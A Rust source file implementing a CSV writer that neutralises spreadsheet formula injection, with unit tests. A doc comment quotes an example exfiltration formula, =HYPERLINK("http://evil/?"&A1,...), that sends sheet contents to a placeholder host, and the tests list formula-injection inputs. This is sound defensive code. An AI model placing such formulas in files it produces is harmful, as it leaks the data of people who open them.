//! Minimal RFC 4180 CSV writer: quotes a field only when it must, and
//! neutralises cells a spreadsheet would run as a formula. Every CSV file
//! voxtap writes goes through [`CsvWriter`].

use std::borrow::Cow;
use std::fmt::{self, Write as _};
use std::io::{self, Write};

pub struct CsvWriter<W: Write> {
    w: W,
    row: Row,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(w: W) -> Self {
        CsvWriter {
            w,
            row: Row::default(),
        }
    }

    pub fn row<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) -> io::Result<()> {
        for f in fields {
            self.row.cell(f);
        }
        let line = self.row.end_line();
        let r = self.w.write_all(line.as_bytes());
        self.row.clear();
        r
    }

    /// A row built by [`Row::take`] (line end included).
    pub fn encoded(&mut self, line: &str) -> io::Result<()> {
        self.w.write_all(line.as_bytes())
    }

    pub fn get_mut(&mut self) -> &mut W {
        &mut self.w
    }

    pub fn into_inner(self) -> W {
        self.w
    }
}

/// One CSV row built cell by cell, each cell encoded as [`CsvWriter::row`]
/// encodes it. Numbers and times are formatted into a scratch string that
/// is reused, so a row costs one allocation (its final copy), not one per
/// cell: the output thread writes about 80 cells a call, and for an import
/// of short calls it is the busiest thread.
#[derive(Default)]
pub struct Row {
    line: String,
    scratch: String,
    cells: usize,
}

impl Row {
    /// A cell of text.
    pub fn cell(&mut self, text: &str) -> &mut Self {
        if self.cells > 0 {
            self.line.push(',');
        }
        self.cells += 1;
        push_cell(&mut self.line, text);
        self
    }

    /// A cell of what `v` displays (a number, an address, `format_args!`).
    pub fn show(&mut self, v: impl fmt::Display) -> &mut Self {
        let mut s = std::mem::take(&mut self.scratch);
        s.clear();
        // Writing to a String cannot fail.
        let _ = write!(s, "{v}");
        self.cell(&s);
        self.scratch = s;
        self
    }

    /// [`Self::show`] of the value, or an empty cell.
    pub fn show_opt(&mut self, v: Option<impl fmt::Display>) -> &mut Self {
        match v {
            Some(v) => self.show(v),
            None => self.cell(""),
        }
    }

    /// The row so far with its line end, leaving this builder empty for the
    /// next row (its buffers kept).
    pub fn take(&mut self) -> Box<str> {
        let row: Box<str> = self.end_line().into();
        self.clear();
        row
    }

    /// The row with its line end added.
    fn end_line(&mut self) -> &str {
        self.line.push_str("\r\n");
        &self.line
    }

    fn clear(&mut self) {
        self.line.clear();
        self.cells = 0;
    }
}

/// A cell as CSV holds it: made safe for spreadsheets, quoted only when it
/// must be.
fn push_cell(out: &mut String, cell: &str) {
    let cell = safe_cell(cell);
    if cell.contains([',', '"', '\n', '\r']) {
        out.push('"');
        for (i, part) in cell.split('"').enumerate() {
            if i > 0 {
                out.push_str("\"\"");
            }
            out.push_str(part);
        }
        out.push('"');
    } else {
        out.push_str(&cell);
    }
}

/// A cell as it may go into a CSV file that someone opens in a spreadsheet.
///
/// Anything on the wire (a From user, a Call-ID, a Request-URI) ends up in
/// our CSV files, and a cell starting with `=`, `+`, `-`, `@`, tab or CR is
/// run as a formula by Excel, LibreOffice and Google Sheets (CSV injection):
/// `=HYPERLINK("http://evil/?"&A1,"x")` leaks the sheet when clicked. As
/// OWASP recommends, such a cell gets a leading `'`, which spreadsheets show
/// as text. The full-width forms (`＝＋－＠`) are treated alike (some
/// locales evaluate them). A plain number (`-3`, `+4930123`, `-0.5`) is
/// left alone: a spreadsheet reads it as a number, never as a formula, and
/// our numeric columns hold negative values.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `[+-]digits[.digits][e[+-]digits]`: what a spreadsheet takes as a number.
fn is_plain_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exp) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((a, b)) => (digits(a) && (b.is_empty() || digits(b))) || (a.is_empty() && digits(b)),
        None => digits(mantissa),
    };
    mantissa_ok && exp.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_when_needed() {
        let mut w = CsvWriter::new(Vec::new());
        w.row(["a", "b,c", "d\"e", ""]).unwrap();
        assert_eq!(w.into_inner(), b"a,\"b,c\",\"d\"\"e\",\r\n");
    }

    /// A row built cell by cell: numbers, formatted values and text are
    /// encoded as `row` encodes the same texts, and `take` leaves the
    /// builder empty for the next row (its scratch reused).
    #[test]
    fn a_row_is_its_cells_encoded() {
        let mut r = Row::default();
        let first = r
            .cell("a,b")
            .show(-3i64)
            .show(format_args!("{:.3}", 1.23456))
            .show_opt(None::<u8>)
            .cell("=cmd")
            .show(format_args!("say \"{}\"", 7))
            .take();
        assert_eq!(&*first, "\"a,b\",-3,1.235,,'=cmd,\"say \"\"7\"\"\"\r\n");
        let second = r.show(42u32).cell("").take();
        assert_eq!(&*second, "42,\r\n");
        assert_eq!(&*r.take(), "\r\n");
        let mut w = CsvWriter::new(Vec::new());
        w.row(["a,b", "-3", "1.235", "", "=cmd", "say \"7\""])
            .unwrap();
        w.row(["42", ""]).unwrap();
        let written = String::from_utf8(w.into_inner()).unwrap();
        assert_eq!(written, format!("{first}{second}"));
    }

    /// OWASP's formula starters are neutralised; numbers and ordinary text
    /// are written as they are.
    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "'=HYPERLINK(\"http://x\",\"y\")",
            ),
            ("+1-212-555", "'+1-212-555"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("＝1+1", "'＝1+1"),
            ("-", "'-"),
            ("+4930123", "+4930123"),
            ("-3", "-3"),
            ("-0.250", "-0.250"),
            ("+1e5", "+1e5"),
            ("alice", "alice"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(safe_cell(cell), want, "{cell:?}");
        }
        let mut w = CsvWriter::new(Vec::new());
        w.row(["=1+2,3", "-1"]).unwrap();
        assert_eq!(w.into_inner(), b"\"'=1+2,3\",-1\r\n");
    }
}
